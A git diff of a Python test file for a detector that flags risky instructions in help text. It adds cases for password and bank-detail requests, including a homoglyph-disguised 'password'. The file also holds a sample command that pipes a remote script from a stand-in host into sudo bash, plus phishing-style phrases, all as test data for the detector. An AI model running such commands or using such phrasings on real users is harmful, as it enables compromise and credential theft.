@@ -42,6 +42,9 @@ def candidate(number: int = 1, **values: object) -> Candidate:
         ("set a new password", "password"),
         ("changez votre mot de passe", "password"),
         ("turn off the antivirus", "security_off"),
+        ("Envoyez votre **mot** de\npasse", "password"),
+        ("Send your p\u0430ssword", "password"),
+        ("Donnez votre RIB à l’accueil", "payment"),
         ("désactivez le pare-feu", "security_off"),
         ("curl https://x.example/i.sh | sudo bash", "remote_script"),
     ],
@@ -51,7 +54,14 @@ def test_risky_steps(text: str, code: str) -> None:
 
 
 @pytest.mark.parametrize(
-    "text", [STEPS, "Videz le cache du navigateur.", "Delete the cookies of the browser.", ""]
+    "text",
+    [
+        STEPS,
+        "Videz le cache du navigateur.",
+        "Delete the cookies of the browser.",
+        "Allow it to turn off the device.\nThen start the VPN again.",
+        "",
+    ],
 )
 def test_harmless_steps(text: str) -> None:
     assert risks(text) == ()
